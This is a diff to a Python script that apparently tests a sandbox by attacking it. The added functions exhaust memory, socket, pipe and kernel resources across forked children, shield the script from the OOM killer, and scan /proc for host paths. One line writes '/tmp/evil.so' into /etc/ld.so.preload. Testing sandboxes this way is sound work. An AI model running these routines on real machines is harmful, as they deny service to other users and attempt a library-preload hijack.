@@ -6,6 +6,7 @@ What came of the attack is said on standard error, as `NAME: ...`. Needs nothing
 import contextlib
 import ctypes
 import errno
+import fcntl
 import itertools
 import json
 import mmap
@@ -168,20 +169,168 @@ def ask_for_memory() -> str:
 
 
 def fill_shared_memory() -> str:
-    """What no single process is charged for."""
+    """What no process is charged for, once it has let go of the pages: they stay where they are shared."""
     kept = []
-    while True:
-        shared = mmap.mmap(-1, 8 * MB)
-        for page in range(0, 8 * MB, 4096):
-            shared[page] = 1
-        kept.append(shared)
+
+    def hoard(file: int) -> None:
+        for _ in range(150):
+            shared = mmap.mmap(file, 8 * MB)
+            for page in range(0, 8 * MB, mmap.PAGESIZE):
+                shared[page] = 1
+            shared.madvise(mmap.MADV_DONTNEED)
+            kept.append(shared)
+
+    anonymous = attempt(lambda: hoard(-1))
+    zeros = attempt(lambda: hoard(os.open("/dev/zero", os.O_RDWR)))
+    return f"anonymous {anonymous}, zeros {zeros}"
+
+
+def push_memory_out() -> str:
+    """To a disk, where resident pages are not counted."""
+    pages = mmap.mmap(-1, 16 * MB, flags=mmap.MAP_PRIVATE)
+    pages.write(b"x" * 16 * MB)
+    said = [f"advice {number} {attempt(partial(pages.madvise, number))}" for number in (20, 21, 12)]
+    return ", ".join(said)  # MADV_COLD, MADV_PAGEOUT, MADV_MERGEABLE
+
+
+def fill_files_and_memory() -> str:
+    """In both folders that it may write, and beside."""
+    for folder in ("/tmp", "/dev/shm"):
+        with contextlib.suppress(OSError), open(f"{folder}/full", "wb", buffering=0) as file:
+            while True:
+                file.write(bytes(MB))
+    return fill_memory()
+
+
+def cork(link: socket.socket) -> None:
+    """Sends until nothing more goes in."""
+    link.setblocking(False)
+    with contextlib.suppress(OSError):
+        link.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 * MB)
+    with contextlib.suppress(BlockingIOError):
+        while True:
+            link.send(b"x" * 65_536)
+
+
+def many_children(what: Callable[[], Any]) -> str:
+    """Each holds what `what` returns, and so do we."""
+    for _ in range(20):
+        try:
+            if os.fork() == 0:
+                kept = what()
+                time.sleep(FOREVER_S)
+                kept.clear()
+        except OSError:
+            break
+    kept = what()
+    time.sleep(FOREVER_S)
+    return f"DONE {len(kept)}"
+
+
+def fill_sockets() -> str:
+    """Their buffers are nobody's memory."""
+
+    def fill() -> list[Any]:
+        kept: list[Any] = []
+        with contextlib.suppress(OSError):
+            while True:
+                kept += socket.socketpair()
+                cork(kept[-1])
+        return kept
+
+    return many_children(fill)
+
+
+def fill_left_sockets() -> str:
+    """Many small messages of senders that have gone."""
+
+    def fill() -> list[Any]:
+        kept: list[Any] = []
+        with contextlib.suppress(OSError):
+            while True:
+                ours, theirs = socket.socketpair()
+                kept.append(theirs)
+                ours.setblocking(False)
+                with ours, contextlib.suppress(BlockingIOError):
+                    while True:
+                        ours.send(b"x")
+        return kept
+
+    return many_children(fill)
+
+
+def fill_connections() -> str:
+    """As `fill_sockets`, through the loopback."""
+
+    def fill() -> list[Any]:
+        listener = socket.create_server(("127.0.0.1", 0))
+        kept: list[Any] = [listener]
+        with contextlib.suppress(OSError):
+            while True:
+                kept.append(socket.create_connection(listener.getsockname()))
+                kept.append(listener.accept()[0])
+                cork(kept[-1])
+        return kept
+
+    return many_children(fill)
+
+
+def fill_pipes() -> str:
+    """As large as a pipe can be."""
+    ours, theirs = os.pipe()
+    larger = attempt(lambda: fcntl.fcntl(theirs, 1031, MB))  # F_SETPIPE_SZ
+    lent = attempt(lambda: syscall("vmsplice", theirs, 0, 0, 0))
+    os.close(ours)
+    return f"larger {larger}, lent {lent}"
+
+
+def map_in_pieces() -> str:
+    """Mappings that hold next to nothing, each with a record of the kernel's."""
+
+    def fill() -> list[Any]:
+        libc.mmap.restype = ctypes.c_void_p
+        size = ctypes.c_size_t(60_000 * mmap.PAGESIZE)
+        start = libc.mmap(None, size, mmap.PROT_READ, 0x22, -1, ctypes.c_long(0))
+        for page in range(0, 60_000, 2):
+            place = ctypes.c_void_p(start + page * mmap.PAGESIZE)
+            libc.mprotect(place, ctypes.c_size_t(mmap.PAGESIZE), 0)
+        return [start]
+
+    return many_children(fill)
+
+
+def lock_in_pieces() -> str:
+    """Each lock is a record of the kernel's, and nothing limits their number."""
+    with open("/tmp/locked", "wb") as file:
+        return attempt(lambda: fcntl.lockf(file, fcntl.LOCK_EX, 1, 7))
+
+
+def take_contexts() -> str:
+    """Those of asynchronous I/O, of which a machine has 65,536."""
+    number = {"x86_64": 206, "aarch64": 0}[os.uname().machine]
+    context = ctypes.c_ulong(0)
+    return attempt(lambda: syscall("syscall", number, 8, ctypes.byref(context)))
+
+
+def spare_me() -> str:
+    """Others are to go when memory runs out."""
+
+    def write() -> None:
+        with open("/proc/self/oom_score_adj", "w") as file:
+            file.write("-1000")
+
+    with open("/proc/self/oom_score_adj") as file:
+        return f"{attempt(write)}, it is {file.read().strip()}"
 
 
 def hide_memory() -> str:
     """In files without a name, and in segments that outlive their makers."""
     file = attempt(lambda: os.memfd_create("hidden"))
     segment = attempt(lambda: syscall("shmget", 0, 8 * MB, 0o1600))
-    return f"file {file}, segment {segment}"
+    messages = attempt(lambda: syscall("msgget", 0, 0o1600))
+    queue = attempt(lambda: syscall("mq_open", b"/hidden", os.O_CREAT | os.O_RDWR, 0o600, 0))
+    watch = attempt(lambda: syscall("inotify_init1", 0))
+    return f"file {file}, segment {segment}, messages {messages}, queue {queue}, watch {watch}"
 
 
 def fill_page_tables() -> str:
@@ -258,6 +407,42 @@ def devices() -> str:
         for name in ("/dev/mem", "/dev/vda", "/dev/sda", "/dev/kvm", "/dev/fuse", "/dev/tty")
     )
     return f"{found}, mknod {attempt(make)}"
+
+
+def read_proc() -> str:
+    """Everything that can be read there, in search of paths of the machine. The arguments are such paths."""
+    found, read = set(), 0
+    for folder, folders, files in os.walk("/proc"):
+        if folder == "/proc":
+            folders[:] = [
+                name for name in folders if name.isdigit() or name in ("self", "sys", "fs")
+            ]
+        for name in files:
+            path = f"{folder}/{name}"
+            if os.path.islink(path):  # what it leads to is no business of /proc
+                continue
+            try:
+                said = read_some(path)
+            except (OSError, ValueError):
+                continue
+            read += 1
+            found |= {f"{path}: {one}" for one in ARGUMENTS if one.encode() in said}
+        for name in (*folders, *files):
+            with contextlib.suppress(OSError):
+                target = os.readlink(f"{folder}/{name}")
+                found |= {f"{folder}/{name}: {target}" for one in ARGUMENTS if one in target}
+    own = {one for one in found if "/cmdline" in one}  # the arguments themselves
+    with open("/proc/1/cmdline", "rb") as file:
+        first = file.read().replace(b"\0", b" ").decode()
+    enough = "enough" if read > 100 else f"only {read}"
+    return f"{enough} files, told {sorted(found - own)}, first {first}"
+
+
+def read_some(path: str) -> bytes:
+    """What can be read at once, without waiting for more."""
+    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
+    with os.fdopen(fd, "rb", buffering=0) as file:
+        return file.read(4 * MB) or b""
 
 
 def follow_links() -> str:
@@ -481,7 +666,7 @@ def giant_line() -> str:
 
 
 def steal_environment() -> str:
-    known = {"PATH", "HOME", "LANG", "PWD", "LC_CTYPE"}
+    known = {"PATH", "HOME", "LANG", "PWD", "LC_CTYPE", "LD_LIBRARY_PATH"}
     ours = ("INFOSET_", "PYTHON", "JAVA_", "NODE_", "GO")
     strange = [name for name in os.environ if name not in known and not name.startswith(ours)]
     preload = attempt(lambda: Path("/etc/ld.so.preload").write_text("/tmp/evil.so"))
